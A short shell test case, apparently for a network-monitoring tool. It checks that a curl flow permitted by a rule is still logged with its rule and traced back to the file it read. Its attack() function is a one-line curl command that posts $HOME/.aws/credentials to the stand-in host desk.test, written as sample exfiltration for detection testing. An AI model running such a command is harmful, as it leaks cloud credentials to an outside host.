# SPDX-License-Identifier: Apache-2.0
TITLE="a flow that a rule allows is in the history too, with the rule and the reader"
VERDICT=QUIET
watchlist() {
	cat <<-END
	network:
	  - destination: desk.test:80
	    rules:
	      - id: our-desk
	        executable: curl
	        decision: allow
	        classes: [aws]
	END
}
attack() { curl -4 -sf -m 10 -d @"$HOME/.aws/credentials" http://desk.test/; }
check() {
	local id
	id=$(told kind=flow verdict=allow destination=desk.test:80 reason=rule rule=our-desk classes=aws 'exe=*/curl') || return
	why "$id" role=cause source=read 'exe=*/curl' 'path=*/.aws/credentials'
}
